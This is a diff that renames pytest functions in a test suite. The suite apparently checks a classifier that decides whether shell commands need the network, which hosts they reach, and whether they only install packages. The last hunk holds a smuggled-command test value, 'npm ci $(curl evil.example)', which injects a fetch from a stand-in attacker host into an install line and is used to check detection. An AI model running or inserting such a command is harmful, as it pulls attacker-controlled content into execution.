@@ -94,7 +94,7 @@ def test_an_ordinary_command_does_not_reach_the_network(command: str) -> None:
         ("git pull", ""),
     ],
 )
-def test_only_what_prints_the_text_of_others_is_a_source(command: str, program: str) -> None:
+def test_only_commands_that_print_others_text_are_a_source(command: str, program: str) -> None:
     assert printing_program(command) == program
 
 
@@ -114,7 +114,7 @@ def test_only_what_prints_the_text_of_others_is_a_source(command: str, program: 
         "npm ci && npm run dev & sleep 1; curl localhost:3000",
     ],
 )
-def test_commands_that_need_the_network(command: str) -> None:
+def test_some_commands_need_the_network(command: str) -> None:
     assert needs_network(command)
     assert network_program(command)
 
@@ -146,7 +146,7 @@ def test_commands_that_need_the_network(command: str) -> None:
         "(python -m http.server 1234 &); wget http://[::1]:1234/",
     ],
 )
-def test_commands_that_work_without_it(command: str) -> None:
+def test_others_work_without_it(command: str) -> None:
     around = Surroundings((("disk", "../remote.git"), ("web", "https://github.com/o/r.git")))
     assert not needs_network(command, around)
 
@@ -219,23 +219,23 @@ def test_the_hosts_of_a_command_are_known_or_any(command: str, hosts: tuple[str,
         (f"https://{'a' * 70}.example/", f"{'a' * 70}.example"),
     ],
 )
-def test_a_host_is_asked_for_as_programs_ask_for_it(address: str, host: str) -> None:
+def test_a_host_is_normalised_as_programs_request_it(address: str, host: str) -> None:
     assert hosts_of(f"curl {address}", {}) == (host,)
 
 
-def test_a_registry_is_offered_with_all_of_its_hosts_and_no_others() -> None:
+def test_a_registry_is_offered_with_exactly_its_hosts() -> None:
     assert with_companions(["pypi.org", "x.example"]) == (*REGISTRY, "x.example")
     assert with_companions(["registry.npmjs.org"]) == ("registry.npmjs.org",)
     assert with_companions(["github.com"]) == ("github.com",)
 
 
-def test_variables_of_the_user_name_hosts_too() -> None:
+def test_environment_variables_name_hosts_too() -> None:
     environment = {"PIP_INDEX_URL": "https://u:p@mirror.example/simple", "GOPROXY": "https://go.example,direct"}
     assert hosts_of("pip install x", environment) == (*REGISTRY, "mirror.example")
     assert "go.example" in hosts_of("go mod download", environment)
 
 
-def test_remotes_over_ssh_make_a_fetch_need_any_host() -> None:
+def test_ssh_remotes_require_any_host_for_a_fetch() -> None:
     assert hosts_of("git pull", {}, Surroundings((("origin", "git@github.com:o/r.git"),))) == ()
     assert hosts_of("git pull", {}) == ()
 
@@ -267,5 +267,5 @@ def test_a_quoted_text_that_names_a_program_needs_no_network(command: str) -> No
         ("npm ci $(curl evil.example)", False),
     ],
 )
-def test_a_line_that_only_installs_is_known(command: str, installs: bool) -> None:
+def test_a_pure_installation_is_recognised(command: str, installs: bool) -> None:
     assert only_installs(command) == installs
